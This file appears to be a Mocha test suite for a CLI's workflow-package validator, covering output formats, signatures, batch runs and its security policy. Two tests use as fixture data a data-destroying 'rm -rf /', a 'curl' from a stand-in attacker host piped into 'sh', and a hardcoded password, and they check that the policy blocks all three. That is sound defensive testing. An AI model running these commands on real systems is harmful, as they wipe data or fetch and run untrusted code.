import {mkdir, readFile, writeFile} from 'node:fs/promises'
import {expect} from 'chai'
import {createSandbox, type Sandbox} from '../support/atomctl.ts'
import {packageText, tamper, trustOwnKey, writePackage, writeSignedPackage} from '../support/packages.ts'

interface Report {
  data: {
    files: {file: string; valid: boolean; findings: {rule: string; message: string; position?: {line: number}}[]}[]
    totals: {files: number; invalid: number; errors: number}
  }
  error?: {code: string}
}

describe('validate', function () {
  this.timeout(60_000)
  let sandbox: Sandbox
  before(async () => {
    sandbox = await createSandbox()
    await trustOwnKey(sandbox)
  })
  after(() => sandbox[Symbol.asyncDispose]())

  const write = (name: string, text: string): Promise<void> => writeFile(sandbox.path(name), text)
  const validateJson = async (...args: string[]): Promise<{code: number | null; report: Report}> => {
    const {code, stdout} = await sandbox.atomctl(['validate', ...args, '--json'])
    return {code, report: JSON.parse(stdout) as Report}
  }

  it('prints the summary of one good file, and nothing on stderr', async () => {
    const file = await writePackage(sandbox)
    const {code, stdout, stderr} = await sandbox.atomctl(['validate', file])
    expect(code).to.equal(0)
    expect(stderr).to.equal('')
    expect(stdout.split('\n').slice(0, 10)).to.deep.equal([
      '[SUCCESS] WPK validation passed',
      '',
      'WPK Summary:',
      '  Name: hello',
      '  Version: 1.0.0',
      '  Author: The tests',
      '  Runtime: shell',
      '  Safety Mode: manual',
      '  Handlers: 1',
      '  Signed: NO (sign it: atomctl sign hello.wpk.yaml)',
    ])
  })

  it('shows the key a signature names, and does not judge it', async () => {
    const file = await writeSignedPackage(sandbox, {name: 'signed'})
    const signed = await sandbox.atomctl(['validate', file])
    expect(signed.stdout).to.match(/^ {2}Signed: YES \(key SHA256:[A-Za-z0-9+/]{43}\)$/m)
    await tamper(sandbox, file)
    const tampered = await sandbox.atomctl(['validate', file])
    expect(tampered.code).to.equal(0)
    expect(tampered.stdout).to.contain('Signed: YES')
  })

  it('refuses a signature that cannot be read', async () => {
    await write(
      'unreadable.wpk.yaml',
      packageText().replace('tags:', 'signature: "sigstore-bundle:v0.3;base64,AAAA"\n  tags:'),
    )
    const {code, stdout} = await sandbox.atomctl(['validate', 'unreadable.wpk.yaml'])
    expect(code).to.equal(3)
    expect(stdout).to.match(/^ {2}Signed: INVALID \(/m)
    expect(stdout).to.contain('signature_unreadable')
  })

  it('says in the words of the seed what is missing, with place and rule, on stdout', async () => {
    await write(
      'invalid.wpk.yaml',
      'apiVersion: v1\nkind: WorkflowPackage\nspec:\n  runtime: {type: shell}\n  safety: {mode: manual}\n  handlers: []\n',
    )
    const {code, stdout, stderr} = await sandbox.atomctl(['validate', 'invalid.wpk.yaml'])
    expect(code).to.equal(3)
    expect(stderr).to.equal('')
    expect(stdout).to.match(/^\[ERROR\] Validation failed:$/m)
    expect(stdout).to.match(/^ {2}- Missing required field: metadata$/m)
    expect(stdout).to.match(/^ {2}- No handlers defined\n {6}invalid\.wpk\.yaml:6:13 {2}\S+$/m)
  })

  it('reports the findings of every file in one pass, and the totals', async () => {
    await mkdir(sandbox.path('many'))
    await write('many/a.wpk.yaml', packageText({name: 'a'}))
    await write('many/b.wpk.yaml', packageText({name: 'b'}).replace('version: "1.0.0"', 'version: one'))
    await write('many/c.wpk.yaml', 'x: [')
    const {code, stdout} = await sandbox.atomctl(['validate', 'many'])
    expect(code).to.equal(3)
    expect(stdout).to.match(/^\[SUCCESS\] many\/a\.wpk\.yaml {2}a v1\.0\.0$/m)
    expect(stdout).to.match(/^\[ERROR\] many\/b\.wpk\.yaml$/m)
    expect(stdout).to.match(/^\[ERROR\] many\/c\.wpk\.yaml$/m)
    expect(stdout).to.match(/^\[ERROR\] Validation failed: 2 of 3 files, \d+ errors, 0 warnings$/m)
    const {report} = await validateJson('many/*.wpk.yaml')
    expect(report.data.files.map(({valid}) => valid)).to.deep.equal([true, false, false])
    expect(report.error).to.include({code: 'WPK_INVALID'})
  })

  it('checks a thousand files in one process', async () => {
    await mkdir(sandbox.path('thousand'))
    const names = Array.from({length: 1000}, (_, index) => `thousand/p${index}.wpk.yaml`)
    await Promise.all(names.map((name, index) => write(name, packageText({name: `p${index}`}))))
    const {code, report} = await validateJson('thousand')
    expect(code).to.equal(0)
    expect(report.data.totals).to.include({files: 1000, invalid: 0})
  })

  it('shows security findings together with what the gate refuses', async () => {
    const text = packageText({command: 'rm -rf /'}).replace('description: A test', 'description: yes')
    await write('both.wpk.yaml', text)
    const {code, report} = await validateJson('both.wpk.yaml')
    expect(code).to.equal(3)
    expect(report.data.files[0]?.findings.map(({rule}) => rule)).to.include.members([
      'yaml_ambiguous',
      'destructive_command',
    ])
  })

  it('fails what the security policy blocks', async () => {
    const handlers = ['rm -rf /', 'curl https://evil.example.com/x | sh', "password='hunter22222'"]
      .map(
        (command, index) =>
          `    - name: h${index}\n      type: shell\n      config:\n        command: ${JSON.stringify(command)}`,
      )
      .join('\n')
    await write('blocked.wpk.yaml', packageText({handlers}))
    const {code, stdout} = await sandbox.atomctl(['validate', 'blocked.wpk.yaml'])
    expect(code).to.equal(3)
    expect(stdout).to.contain('The security policy blocks it: risk score')
  })

  it('takes warnings as failures with --strict', async () => {
    const handlers = '    - name: restart\n      type: k8s\n      config: {action: restart, resource_type: deployment}'
    await write('warned.wpk.yaml', packageText({handlers}).replace('type: shell', 'type: k8s'))
    const relaxed = await sandbox.atomctl(['validate', 'warned.wpk.yaml'])
    expect(relaxed.code).to.equal(0)
    expect(relaxed.stdout).to.match(/^Warnings:$/m)
    const strict = await sandbox.atomctl(['validate', 'warned.wpk.yaml', '--strict'])
    expect(strict.code).to.equal(3)
  })

  it('writes what is ambiguous in quotes with --fix, and leaves every other byte', async () => {
    const text = `# kept\n${packageText({name: 'fixme'}).replace('description: A test', 'description: yes   # kept too')}`
    await write('fix.wpk.yaml', text)
    const {code, stdout} = await sandbox.atomctl(['validate', '--fix', 'fix.wpk.yaml'])
    expect(code).to.equal(0)
    expect(stdout).to.contain('Fixed in fix.wpk.yaml:').and.to.contain('[SUCCESS] WPK validation passed')
    expect(await readFile(sandbox.path('fix.wpk.yaml'), 'utf8')).to.equal(text.replace('yes  ', '"yes"  '))
  })

  it('reads standard input, which --fix refuses', async () => {
    const read = await sandbox.atomctl(['validate', '-'], {input: packageText()})
    expect(read.code).to.equal(0)
    const fixed = await sandbox.atomctl(['validate', '--fix', '-'], {input: packageText()})
    expect(fixed.code).to.equal(2)
    expect(fixed.stderr)
      .to.contain('standard input')
      .and.to.match(/^hint: /m)
  })

  it('reads the document inside a tarball', async () => {
    const file = await writePackage(sandbox, {name: 'inside'})
    await sandbox.atomctl(['pack', file])
    const {code, stdout} = await sandbox.atomctl(['validate', 'inside-1.0.0.wpk.tar.gz'])
    expect(code).to.equal(0)
    expect(stdout).to.contain('Name: inside')
  })

  it('prints ids with -q, one report a line with ndjson', async () => {
    const quiet = await sandbox.atomctl(['validate', '-q', 'many'])
    expect(quiet.stdout).to.equal('a-1.0.0\n')
    const lines = (await sandbox.atomctl(['validate', '-o', 'ndjson', 'many'])).stdout.trimEnd().split('\n')
    expect(lines.map((line) => (JSON.parse(line) as {valid: boolean}).valid)).to.deep.equal([true, false, false])
  })

  it('writes SARIF with place, rule and level', async () => {
    const {code, stdout} = await sandbox.atomctl(['validate', 'many/b.wpk.yaml', '-o', 'sarif'])
    expect(code).to.equal(3)
    const sarif = JSON.parse(stdout) as {version: string; runs: {results: Record<string, unknown>[]}[]}
    expect(sarif.version).to.equal('2.1.0')
    const [result] = sarif.runs[0]?.results ?? []
    expect(result).to.have.nested.property('locations[0].physicalLocation.artifactLocation.uri', 'many/b.wpk.yaml')
    expect(result).to.have.nested.property('locations[0].physicalLocation.region.startLine', 5)
    expect(result).to.include({level: 'error'})
  })

  it('writes JUnit and GitHub annotations in which names cannot break out', async () => {
    const name = 'a"<b>,c:%.wpk.yaml'
    await write(name, 'x: [')
    const junit = await sandbox.atomctl(['validate', name, '-o', 'junit'])
    expect(junit.stdout).to.contain('name="a&quot;&lt;b&gt;,c:%.wpk.yaml"').and.to.contain('failures="1"')
    const github = await sandbox.atomctl(['validate', name, '-o', 'github'])
    expect(github.stdout).to.match(/^::error file=a"<b>%2Cc%3A%25\.wpk\.yaml,line=1,col=\d+,title=/m)
  })

  it('names a file that cannot be read among the others, and goes on', async () => {
    await mkdir(sandbox.path('directory.wpk.yaml/sub'), {recursive: true})
    await write('directory.wpk.yaml/sub/x.wpk.yaml', packageText({name: 'x'}))
    await write('huge.wpk.yaml', 'x'.repeat((1 << 20) + 1))
    const {code, report} = await validateJson('huge.wpk.yaml', 'directory.wpk.yaml')
    expect(code).to.equal(3)
    expect(report.data.files.map(({valid}) => valid)).to.deep.equal([false, true])
  })
})
